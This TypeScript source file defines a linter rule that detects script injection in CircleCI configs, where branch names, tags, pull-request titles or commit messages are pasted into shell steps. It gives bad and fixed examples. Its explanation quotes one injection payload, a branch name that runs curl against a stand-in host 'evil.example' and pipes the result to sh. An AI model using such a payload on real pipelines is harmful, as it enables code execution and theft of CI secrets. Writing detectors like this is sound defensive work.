import { rule } from '../../core/rule';
import { replace } from '../../core/text';
import { placeholdersIn } from '../../formats/circleci/parameters';
import { allSteps } from '../../formats/circleci/script';
import { locate } from '../../formats/yaml/locate';

export default rule({
  id: 'circleci/script-injection',
  title: 'Text of others that becomes a part of a script',
  why: [
    'CircleCI fills in `<< … >>` before any shell reads the script, so what stands there is read as commands: a branch called `x;curl${IFS}evil.example|sh` runs what its author likes, with the secrets of the job. The title of a pull request is anybody’s.',
    'As an environment variable in double quotes it is only text: CircleCI sets `CIRCLE_BRANCH` and `CIRCLE_TAG` itself, anything else goes by way of `environment`.',
  ],
  severity: 'warning',
  practice: 'delivery',
  since: '0.1.0',
  fixes: 'suggested',
  links: [
    'https://circleci.com/docs/reference/variables/#pipeline-values',
    'https://circleci.com/docs/guides/security/security-recommendations/',
  ],
  bad: [
    {
      files:
        'version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/node:24.1\n    steps:\n      - run: ./deploy.sh --branch "«<< pipeline.git.branch >>»"\n',
      fixed:
        'version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/node:24.1\n    steps:\n      - run: ./deploy.sh --branch "${CIRCLE_BRANCH}"\n',
    },
    {
      files:
        'version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/node:24.1\n    steps:\n      - run:\n          command: |\n            echo "«<<pipeline.event.github.pull_request.title>>»" > title\n            make\n',
    },
    {
      title: 'the name of a tag',
      files:
        'version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/node:24.1\n    steps:\n      - run: git tag -l "«<< pipeline.git.tag >>»"\n',
      fixed:
        'version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/node:24.1\n    steps:\n      - run: git tag -l "${CIRCLE_TAG}"\n',
    },
    {
      title: 'in single quotes the shell would not fill the variable in',
      files:
        "version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/node:24.1\n    steps:\n      - run: echo '«<< pipeline.git.branch >>»'\n",
    },
  ],
  good: [
    'version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/node:24.1\n    steps:\n      - run: ./deploy.sh --branch "$CIRCLE_BRANCH"\n',
    {
      title: 'by way of the environment',
      files:
        'version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/node:24.1\n    steps:\n      - run:\n          command: echo "$TITLE"\n          environment:\n            TITLE: << pipeline.event.github.pull_request.title >>\n',
    },
    {
      title: 'nobody chooses a number or a hash',
      files:
        'version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/node:24.1\n    steps:\n      - run: ./deploy.sh << pipeline.number >> << pipeline.git.revision >>\n',
    },
    {
      title: 'no script',
      files:
        'version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/node:24.1\n    steps:\n      - restore_cache:\n          key: a-<< pipeline.git.branch >>\n',
    },
    {
      title: 'a here-document',
      files:
        'version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/node:24.1\n    steps:\n      - run: |\n          cat \\<<pipeline.git.branch>>\n',
    },
  ],
  *check({ config }) {
    const scripts = new Set((config ? allSteps(config) : []).flatMap(({ script }) => script ?? []));
    for (const script of scripts) {
      for (const { start, end, name } of placeholdersIn(script.text)) {
        const who = whoWrites(name);
        if (who === undefined) continue;
        const at = locate(script, start, end);
        const variable = VARIABLES.get(name);
        const line = script.text.slice(script.text.lastIndexOf('\n', start) + 1, start);
        yield {
          at,
          message: `Whoever ${who} can run commands here: ${name} becomes a part of the script before a shell reads it`,
          fix:
            variable === undefined || line.includes("'")
              ? undefined
              : { title: `Use the variable ${variable}`, edits: [replace(at, `\${${variable}}`)] },
          address: name,
        };
      }
    }
  },
});

const VARIABLES: ReadonlyMap<string, string> = new Map([
  ['pipeline.git.branch', 'CIRCLE_BRANCH'],
  ['pipeline.git.tag', 'CIRCLE_TAG'],
]);

/** Who chooses the text of a value of the pipeline; undefined where nobody can. */
function whoWrites(name: string): string | undefined {
  if (VARIABLES.has(name)) return 'names the branch or the tag';
  if (/^pipeline\.event\.[\w.]{1,60}\.(?:title|body|head\.ref|message|name|label)$/.test(name))
    return 'opens a pull request';
  if (name === 'pipeline.git.commit.subject' || name === 'pipeline.git.commit.body') return 'commits';
  return undefined;
}
